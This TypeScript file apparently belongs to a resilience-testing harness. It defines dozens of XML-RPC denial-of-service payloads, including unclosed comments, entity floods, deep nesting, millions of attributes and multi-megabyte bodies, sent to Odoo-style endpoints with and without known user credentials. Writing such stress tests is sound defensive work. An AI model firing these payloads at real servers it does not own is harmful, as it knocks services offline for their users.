// XML-RPC attacks: endless comments, entities, attributes, tags, and millions of values.
import type { Attack, World } from '../attack.ts'
import { type Body, many, times } from '../bodies.ts'

const value = (inner: Body): Body => [
  '<?xml version="1.0"?><methodCall><methodName>login</methodName><params><param><value>',
  ...inner,
  '</value></param></params></methodCall>',
]

const documents: Readonly<Record<string, { size: number; small: number; body: (n: number) => Body }>> = {
  'open-comment': {
    size: 100_000_000,
    small: 3_000_000,
    body: (n) => ['<?xml version="1.0"?><!--', times(n, 'c')],
  },
  'open-comment-of-dashes': {
    size: 100_000_000,
    small: 3_000_000,
    body: (n) => ['<methodCall><!--', times(n / 2, ' -')],
  },
  comments: { size: 5_000_000, small: 20_000, body: (n) => ['<methodCall>', times(n, '<!---->')] },
  'open-cdata': {
    size: 100_000_000,
    small: 3_000_000,
    body: (n) => ['<methodCall><methodName><![CDATA[', times(n, ']')],
  },
  'open-instruction': {
    size: 100_000_000,
    small: 3_000_000,
    body: (n) => ['<?xml version="1.0"?><?pi ', times(n, '?')],
  },
  'open-doctype': {
    size: 100_000_000,
    small: 3_000_000,
    body: (n) => ['<!DOCTYPE m [', times(n / 8, '<!ENTITY')],
  },
  'open-marks': { size: 100_000_000, small: 3_000_000, body: (n) => [times(n, '<')] },
  'open-elements': { size: 5_000_000, small: 20_000, body: (n) => [times(n, '<methodCall>')] },
  'long-name': { size: 100_000_000, small: 3_000_000, body: (n) => ['<', times(n, 'n')] },
  'long-attribute': { size: 100_000_000, small: 3_000_000, body: (n) => ['<methodCall a="', times(n, 'a')] },
  attributes: {
    size: 5_000_000,
    small: 20_000,
    body: (n) => ['<methodCall ', many(n, (at) => `a${at}=""`, ' '), '>'],
  },
  'same-attribute': { size: 5_000_000, small: 20_000, body: (n) => ['<methodCall ', times(n, 'a="" '), '>'] },
  'attributes-of-value': {
    size: 3_000_000,
    small: 20_000,
    body: (n) => value([many(n, (at) => `<int a${at}="1">`, '')]),
  },
  entities: {
    size: 15_000_000,
    small: 50_000,
    body: (n) => value(['<string>', times(n, '&amp;'), '</string>']),
  },
  'numbered-entities': {
    size: 10_000_000,
    small: 50_000,
    body: (n) => value(['<string>', times(n, '&#x61;'), '</string>']),
  },
  'long-entity': { size: 100_000_000, small: 3_000_000, body: (n) => value(['<string>&', times(n, 'e')]) },
  'unknown-entities': { size: 10_000_000, small: 50_000, body: (n) => value(['<string>', times(n, '&x;')]) },
  nested: { size: 3_000_000, small: 20_000, body: (n) => value([times(n, '<array><data><value>')]) },
  ints: {
    size: 4_000_000,
    small: 20_000,
    body: (n) => value(['<array><data>', times(n, '<value><int>1</int></value>'), '</data></array>']),
  },
  'empty-values': {
    size: 12_000_000,
    small: 20_000,
    body: (n) => value(['<array><data>', times(n, '<value/>'), '</data></array>']),
  },
  members: {
    size: 2_000_000,
    small: 20_000,
    body: (n) =>
      value(['<struct>', many(n, (at) => `<member><name>m${at}</name><value/></member>`, ''), '</struct>']),
  },
  'long-text': {
    size: 110_000_000,
    small: 3_000_000,
    body: (n) => value(['<string>', times(n, 't'), '</string>']),
  },
  'long-int': { size: 100_000_000, small: 3_000_000, body: (n) => value(['<int>', times(n, '9'), '</int>']) },
  blanks: { size: 110_000_000, small: 3_000_000, body: (n) => ['<methodCall>', times(n, '\n')] },
  'utf-16': {
    size: 50_000_000,
    small: 1_000_000,
    body: (n) => ['<?xml version="1.0" encoding="utf-16"?>', times(n, '\u0000<')],
  },
  'long-encoding': {
    size: 50_000_000,
    small: 1_000_000,
    body: (n) => ['<?xml version="1.0" encoding="', times(n, 'u'), '"?>'],
  },
}

const open: Attack[] = Object.entries(documents).map(([name, { size, small, body }], at) => ({
  name: `xmlrpc/${name}`,
  area: 'B',
  open: true,
  size,
  ...(at % 2 ? {} : { small }),
  run: ({ send }, n) =>
    send({
      path: at % 3 ? '/xmlrpc/2/common' : '/xmlrpc/db',
      headers: { 'content-type': 'text/xml' },
      body: body(n),
    }),
}))

/** A call of a known user, whose last argument is `inner`. */
export function xmlCall(
  { database, uids, keys }: World,
  login: 'portal' | 'plain',
  method: string,
  inner: Body,
): Body {
  const scalar = (text: string) => `<param><value>${text}</value></param>`
  const head = [database, null, keys[login], 'res.partner', method].map((argument) =>
    scalar(argument === null ? `<int>${uids[login]}</int>` : `<string>${argument}</string>`),
  )
  return [
    '<methodCall><methodName>execute_kw</methodName><params>',
    ...head,
    '<param><value><array><data><value>',
    ...inner,
    '</value></data></array></value></param></params></methodCall>',
  ]
}

const ofKnownUsers: Attack[] = (['ints', 'members', 'long-text', 'entities'] as const).map((name) => ({
  name: `xmlrpc-known/${name}`,
  area: 'B',
  size: documents[name]?.size ?? 0,
  small: documents[name]?.small ?? 0,
  run: ({ send, world }, n) =>
    send({
      path: '/xmlrpc/2/object',
      headers: { 'content-type': 'text/xml' },
      body: xmlCall(world, 'plain', 'search', (documents[name]?.body(n) ?? []).slice(1, -1)),
    }),
}))

const ids: Attack = {
  name: 'xmlrpc-known/ids',
  area: 'B',
  size: 3_000_000,
  small: 20_000,
  run: ({ send, world }, n) =>
    send({
      path: '/xmlrpc/2/object',
      headers: { 'content-type': 'text/xml' },
      body: xmlCall(world, 'plain', 'read', [
        '<array><data>',
        many(n, (at) => `<value><int>${at}</int></value>`, ''),
        '</data></array>',
      ]),
    }),
}

export const xml: readonly Attack[] = [...open, ...ofKnownUsers, ids]
